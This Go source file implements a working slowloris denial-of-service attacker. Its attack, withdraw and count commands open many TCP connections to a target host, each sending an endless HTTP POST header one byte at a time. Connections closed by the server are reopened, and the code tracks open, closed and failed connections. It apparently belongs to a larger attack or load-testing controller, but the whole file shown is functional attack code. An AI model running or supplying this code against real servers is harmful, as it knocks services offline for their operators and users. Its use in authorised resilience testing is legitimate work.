package main

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/url"
	"os"
	"sync"
	"sync/atomic"
	"time"
)

// What attackers are told to do, beside actCounts.
const (
	actAttack   = "attack"   // open o.Count connections within o.Over
	actWithdraw = "withdraw" // close them
)

// What attackers count.
const (
	slowOpen   = iota // connections there are
	slowClosed        // those that the other side has closed
	slowFailed        // attempts to open one that failed
	slowCounts
)

// slowloris are connections that send a byte of a header now and then, and open again when they are closed.
type slowloris struct {
	host  string
	delay time.Duration // from byte to byte

	counts  [slowCounts]atomic.Int64
	running sync.WaitGroup
	cancel  context.CancelFunc // nil without an attack
}

func newSlowloris(o order) (act func(context.Context, order) (answer, error), stop func() error, err error) {
	u, err := url.Parse(o.URL)
	if err != nil {
		return nil, nil, err
	}
	s := &slowloris{host: u.Host, delay: o.Delay}
	return s.act, func() error { s.withdraw(); return nil }, nil
}

func (s *slowloris) act(ctx context.Context, o order) (ans answer, err error) {
	switch o.Variant {
	case actAttack:
		s.attack(ctx, o)
	case actWithdraw:
		s.withdraw()
	case actCounts:
	default:
		err = fmt.Errorf("attackers cannot %q", o.Variant)
	}
	for i := range s.counts {
		ans.Counts = append(ans.Counts, s.counts[i].Load())
	}
	return ans, err
}

// attack returns when every connection was tried to be opened once.
func (s *slowloris) attack(ctx context.Context, o order) {
	s.withdraw()
	ctx, s.cancel = context.WithCancel(ctx)
	var tried sync.WaitGroup
	tried.Add(o.Count)
	begin := time.Now()
	for i := range o.Count {
		time.Sleep(time.Until(begin.Add(time.Duration(i) * o.Over / time.Duration(o.Count))))
		s.running.Go(func() { s.keep(ctx, sync.OnceFunc(tried.Done)) })
	}
	tried.Wait()
}

// withdraw ends an attack.
func (s *slowloris) withdraw() {
	if s.cancel != nil {
		s.cancel()
		s.running.Wait()
	}
}

// keep keeps a connection open until ctx ends, as far as the other side bears it.
func (s *slowloris) keep(ctx context.Context, tried func()) {
	for ctx.Err() == nil {
		conn, err := new(net.Dialer).DialContext(ctx, "tcp", s.host)
		if err != nil {
			if ctx.Err() == nil {
				s.counts[slowFailed].Add(1)
			}
			tried()
			_ = pause(ctx, s.delay) // the loop sees its end
			continue
		}
		s.counts[slowOpen].Add(1)
		tried()
		if s.dribble(ctx, conn.(*net.TCPConn)) != nil && ctx.Err() == nil {
			s.counts[slowClosed].Add(1)
		}
		s.counts[slowOpen].Add(-1)
	}
}

// dribble sends a request that never ends. The error is the end of the connection.
func (s *slowloris) dribble(ctx context.Context, conn *net.TCPConn) error {
	defer func() { _ = conn.Close() }()
	defer context.AfterFunc(ctx, func() { _ = conn.SetReadDeadline(time.Unix(1, 0)) })()
	if err := conn.SetLinger(0); err != nil { // so many ports would be missing for a minute
		return err
	}
	if _, err := conn.Write([]byte("POST " + thingEntry + " HTTP/1.1\r\nHost: " + s.host + "\r\nX-Slow: ")); err != nil {
		return err
	}
	answer := make([]byte, 512)
	for {
		if err := conn.SetReadDeadline(time.Now().Add(s.delay)); err != nil {
			return err
		}
		if err := ctx.Err(); err != nil {
			return err
		}
		_, err := conn.Read(answer)
		if errors.Is(err, os.ErrDeadlineExceeded) && ctx.Err() == nil {
			_, err = conn.Write([]byte("x"))
		}
		if err != nil {
			return err
		}
	}
}
